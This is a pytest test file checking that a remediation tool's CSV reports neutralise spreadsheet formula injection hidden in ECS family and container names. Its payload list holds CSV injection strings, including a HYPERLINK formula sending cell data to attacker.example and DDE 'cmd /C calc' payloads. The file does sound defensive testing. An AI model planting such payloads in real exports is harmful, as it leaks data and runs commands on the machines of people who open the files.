"""Issue 19: CSV and spreadsheet formula injection through names. The registrant names families and containers as
formulas (`=HYPERLINK(...)`, `+cmd`, `-2+3`, `@SUM`, a leading tab or carriage return, a full-width equals sign, a
quote and a comma to break out of the cell); `ecs-remediate scan --output csv` and the organization sweep's report.csv
are read back with Python's csv module: every cell is one a spreadsheet takes as text (OWASP's CSV injection
guidance), and each name is still there, behind a `'`.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from moto import mock_aws

from demo.sandbox import Sandbox
from ecs_remediate.adapters import aws
from ecs_remediate.cli.main import main
from ecs_remediate.organization.sweep_summary import CSV_COLUMNS, to_csv
from ecs_remediate.reports.csv_rows import safe_cell

PACKAGE = Path(__file__).resolve().parents[1] / "lambda" / "ecs_remediate"
FAST = ["--rate", "describe=1000/1000,list=1000/1000,register=1000/1000", "--max-attempts", "2", "-q"]
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
    'x","=1+1',  # a quote and a comma: another cell, if cells were not quoted
    "x;=1+1",  # a name with the list cells' item separator
]
# A spreadsheet evaluates a cell whose first character, or first after blanks, is one of these.
TRIGGERS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
BLANKS = re.compile(r"^[\s\x00-\x1f\x7f]+")


def evaluated(cell: str) -> bool:
    return bool(cell) and (cell[0] in TRIGGERS or BLANKS.sub("", cell)[:1] in TRIGGERS)


def shown(cell: str) -> str:
    """What a spreadsheet shows for a text cell: the leading `'` only says "text"."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.fixture
def sandbox(monkeypatch: pytest.MonkeyPatch) -> Iterator[Sandbox]:
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    for name in ("MODE", "TOPIC_ARN", "IDEMPOTENCY_TABLE", "EXEMPTIONS_TABLE", "EXEMPT_FAMILIES", "SWEEP_RATES"):
        monkeypatch.delenv(name, raising=False)
    aws.reset_clients()
    with mock_aws():
        yield Sandbox().create()
    aws.reset_clients()


def scan_csv(*args: str) -> list[list[str]]:
    stdout, stderr = io.StringIO(), io.StringIO()
    code = main(["scan", "--region", "us-east-1", *FAST, "--output", "csv", *args], stdout, stderr)
    assert code in (0, 1), stderr.getvalue()
    return list(csv.reader(io.StringIO(stdout.getvalue())))


def test_scan_csv_neutralises_formulas_in_container_and_family_names(sandbox: Sandbox) -> None:
    """Each formula is a privileged container's name (moto, like a CloudFormation import or a Config record, keeps
    names ECS would refuse); families start with "-" (ECS allows it) or "=" (moto does)."""
    for n, formula in enumerate(FORMULAS):
        family = "-2" if n % 3 == 0 else f"=1+{n}" if n % 3 == 1 else f"svc-{n}"
        container = {"name": formula, "image": "nginx", "memory": 64, "privileged": True}
        linux = {"capabilities": {"add": ["SYS_ADMIN"]}}
        second = {"name": f"@{n}", "image": "nginx", "memory": 64, "privileged": True, "linuxParameters": linux}
        sandbox.register({"family": family, "containerDefinitions": [container, second]})

    header, *rows = scan_csv("--scope", "active")
    assert header[:2] == ["taskDefinitionArn", "status"]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert len(row) == len(header), row  # no name broke out of its cell
        assert [cell for cell in row if evaluated(cell)] == []
    cells = {shown(row[header.index("privilegedContainers")]) for row in rows}
    for n, formula in enumerate(FORMULAS):  # each name still there, behind a "'"
        assert any(cell.startswith(f"{formula};'@{n}") for cell in cells), formula
    host = [row[header.index("hostEquivalents")] for row in rows]
    assert all("SYS_ADMIN" in cell for cell in host)


def test_the_organization_sweeps_report_csv_is_written_the_same_way() -> None:
    rows = [
        {
            "account": "111122223333",
            "region": "us-east-1",
            "taskDefinitionArn": f"arn:aws:ecs:us-east-1:111122223333:task-definition/-{n}:1",
            "status": "FAIL",
            "privilegedContainers": [formula, "app"],
            "action": formula,
            "newTaskDefinitionArn": None,
            "error": formula,
        }
        for n, formula in enumerate(FORMULAS)
    ]
    header, *read = list(csv.reader(io.StringIO(to_csv(rows))))
    assert header == list(CSV_COLUMNS) and len(read) == len(FORMULAS)
    for row, formula in zip(read, FORMULAS, strict=True):
        assert len(row) == len(header) and [cell for cell in row if evaluated(cell)] == []
        assert shown(row[header.index("action")]) == formula == shown(row[header.index("error")])
        assert shown(row[header.index("privilegedContainers")]) == f"{formula};app"
        assert row[header.index("newTaskDefinitionArn")] == ""


@pytest.mark.parametrize("value", [*FORMULAS, "", None, "app", "a-b", "arn:aws:ecs:x", 3, ["=a", "+b"], ("-c",)])
def test_safe_cell_leaves_text_alone_and_escapes_only_what_a_spreadsheet_would_run(value: object) -> None:
    cell = safe_cell(value)
    assert not evaluated(cell)
    if isinstance(value, (list, tuple)):
        assert cell.split(";") == [safe_cell(item) for item in value]
    elif value is not None:  # a "'" before what a spreadsheet would run, nothing else changed
        assert cell == (f"'{value}" if evaluated(str(value)) else str(value))


def test_csv_is_written_in_one_place() -> None:
    """Only reports/csv_rows.py imports the csv module: no other writer can skip the neutralisation."""
    importers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if "csv" in names:
                importers.append(path.relative_to(PACKAGE).as_posix())
    assert importers == ["reports/csv_rows.py"]
